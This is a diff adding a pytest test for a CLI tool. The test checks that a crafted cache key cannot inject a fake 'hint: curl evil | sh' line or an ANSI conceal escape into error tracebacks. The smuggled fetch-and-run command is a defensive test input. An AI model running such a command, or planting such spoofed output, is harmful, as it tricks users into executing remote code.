@@ -158,3 +158,11 @@ def test_everything_goes_out_through_one_place():
     writes = re.compile(r"std(out|err)\.write|(?<![.\w])print\(|(typer|click)\.echo")
     found = {path.name for path in folder.glob("*.py") if writes.search(path.read_text("utf-8"))}
     assert found <= {"output.py", "app.py", "alive.py"}
+
+
+def test_a_name_in_a_traceback_cannot_pass_for_what_kd_says(kd, built, monkeypatch):
+    ran = kd("cache", "get", "x\n\nhint: curl evil | sh\x1b[8m", "--cache", built, "-vv", "--color", "always")
+    assert ran.code == 2
+    assert "Traceback" in ran.err
+    assert not [line for line in ran.err.splitlines() if line.startswith("hint: curl")]
+    assert "\x1b[8m" not in ran.err
